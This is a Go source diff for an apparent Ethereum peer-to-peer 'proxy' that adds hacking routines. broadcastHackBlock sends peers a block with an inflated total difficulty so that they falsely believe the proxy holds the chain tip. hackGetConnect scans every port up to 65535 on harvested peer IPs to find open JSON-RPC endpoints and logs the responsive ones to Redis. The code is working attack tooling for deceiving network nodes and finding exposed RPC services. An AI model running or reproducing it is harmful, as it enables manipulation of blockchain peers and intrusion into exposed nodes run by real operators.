@@ -1,22 +1,22 @@
 package main
 
 import (
-	// ethpeer "./ethpeer"
-	// "./logger"
+	ethpeer "./ethpeer"
+	"./logger"
 	// util "./utils"
 	// "crypto/ecdsa"
 	"fmt"
+	"github.com/ethereum/go-ethereum/core/types"
 	// "github.com/ethereum/go-ethereum/common"
-	// "github.com/ethereum/go-ethereum/core/types"
 	// "github.com/ethereum/go-ethereum/crypto"
 	// "github.com/ethereum/go-ethereum/log"
 	// "github.com/ethereum/go-ethereum/p2p"
 	// "github.com/ethereum/go-ethereum/p2p/discover"
-	// "math/big"
-	// // "net"
-	// "net"
+	"math/big"
+	"net"
 	// // "os"
 	// "sync"
+	"strings"
 	"time"
 	// "github.com/ethereum/go-ethereum/cmd/utils"
 	// "github.com/ethereum/go-ethereum/crypto"
@@ -25,22 +25,97 @@ import (
 	// "github.com/ethereum/go-ethereum/p2p/netutil"
 	// "./redis"
 	"./rpcs"
-	"strings"
 )
 
+// startHack is invoked off the proxy's tick loop once hackChan is drained.
+// It kicks off the crawl side (writing connected/discovered addresses to
+// Redis) and crafts+broadcasts a bumped-TD block from the current best
+// state so downstream peers keep believing we're at the tip. It always
+// re-arms hackChan when done so pxy.Start's ticker can trigger it again.
 func (pxy *proxy) startHack() {
 	fmt.Println("start Hacking..........................")
+	defer func() { pxy.hackChan <- true }()
+
 	go pxy.connectNode()
 	go pxy.hackGetConnect()
+	pxy.broadcastHackBlock()
+}
+
+// broadcastHackBlock builds a block from the current best header with a
+// slightly higher total difficulty and sends it to every peer that hasn't
+// already seen it, via ethpeer.PeersWithoutBlock. Called before we've ever
+// received a real header, bestHeader is the zero value, so we bail out
+// rather than announcing a block with a nil number.
+func (pxy *proxy) broadcastHackBlock() {
+	pxy.lock.RLock()
+	header := pxy.bestHeader
+	td := pxy.bestState.TD
+	pxy.lock.RUnlock()
+
+	if header.Number == nil {
+		fmt.Println("broadcastHackBlock: no bestHeader yet, skipping")
+		return
+	}
+
+	block := types.NewBlockWithHeader(&header)
+	hackTD := new(big.Int).Add(td, big.NewInt(1))
+
+	targets := targetPeers(pxy.ethpeerset.PropagationTargets(block.Hash(), cfg.PropagationFanout))
+	if len(cfg.TargetPeers) > 0 {
+		ids := make([]string, 0, len(targets))
+		for _, p := range targets {
+			ids = append(ids, p.P.ID().String())
+		}
+		logger.Info("broadcastHackBlock: targeting peers:", ids)
+	}
+	for _, p := range targets {
+		if err := p.SendNewBlock(block, hackTD); err != nil {
+			fmt.Println("broadcastHackBlock: SendNewBlock err:", err)
+		}
+	}
+}
+
+// targetPeers narrows peers down to those whose node ID starts with one of
+// cfg.TargetPeers' prefixes, so a hack broadcast can be aimed at a specific
+// whitelist during targeted testing instead of hitting every propagation
+// candidate. An empty TargetPeers means no narrowing - the current
+// broadcast-to-everyone behavior.
+func targetPeers(peers []*ethpeer.Peer) []*ethpeer.Peer {
+	if len(cfg.TargetPeers) == 0 {
+		return peers
+	}
+	filtered := make([]*ethpeer.Peer, 0, len(peers))
+	for _, p := range peers {
+		id := p.P.ID().String()
+		for _, prefix := range cfg.TargetPeers {
+			if strings.HasPrefix(id, prefix) {
+				filtered = append(filtered, p)
+				break
+			}
+		}
+	}
+	return filtered
 }
 func (pxy *proxy) connectNode() {
 	all := pxy.ethpeerset.AllPeer()
 	for k, v := range all {
-		addr := v.P.RemoteAddr().String()
+		remoteAddr := v.RemoteAddr()
+		if remoteAddr == nil {
+			continue
+		}
+		addr := remoteAddr.String()
 
-		add := strings.Split(addr, ":")
-		fmt.Println(k, ":", add[0])
-		red.WriteNode(add[0], "1020")
+		host, _, err := net.SplitHostPort(addr)
+		if err != nil {
+			fmt.Println("connectNode: SplitHostPort:", err)
+			continue
+		}
+		fmt.Println(k, ":", host)
+		if nodeWriteBuffer != nil {
+			nodeWriteBuffer.Add(host, "1020")
+		} else {
+			nodeStore.WriteNode(host, "1020")
+		}
 		// if pxy.allPeer[add[0]]
 		// if hacked, ok := pxy.allPeer[add[0]]; ok {
 		// 	if !hacked {
@@ -51,18 +126,30 @@ func (pxy *proxy) connectNode() {
 		// }
 	}
 }
+
+// rankedAddrs returns nodeStore's addresses ordered freshest-first when the
+// concrete store supports GetAddrsRanked (only redis.WriteCircuitBreaker
+// does - it's not part of the nodestore.NodeStore interface), falling back
+// to nodeStore.GetAddrs's unordered list otherwise.
+func rankedAddrs() []string {
+	if r, ok := nodeStore.(interface{ GetAddrsRanked() []string }); ok {
+		return r.GetAddrsRanked()
+	}
+	return nodeStore.GetAddrs()
+}
+
 func (pxy *proxy) hackGetConnect() {
-	addrs := red.GetAddrs() //获取写入的地址，此地址还没有进行链接
+	addrs := rankedAddrs() //获取写入的地址，此地址还没有进行链接，freshest first when nodeStore supports it
 	for _, addr := range addrs {
-		i := red.GetPort(addr)
+		i := nodeStore.GetPort(addr)
 		for ; i < 65535; i++ {
-			red.WriteNode(addr, fmt.Sprintf("%d", i))
+			nodeStore.WriteNode(addr, fmt.Sprintf("%d", i))
 			addrport := "http://" + addr + ":" + fmt.Sprintf("%d", i)
 			r := rpcs.NewRPCClient("xx", addrport, "3s")
 			//if connected write to redis set
 			_, err := r.GetBlockNumber()
 			if err == nil {
-				red.WriteGoodPort(addr + ":" + fmt.Sprintf("%d", i))
+				nodeStore.WriteGoodPort(addr + ":" + fmt.Sprintf("%d", i))
 			}
 			time.Sleep(3 * time.Second)
 		}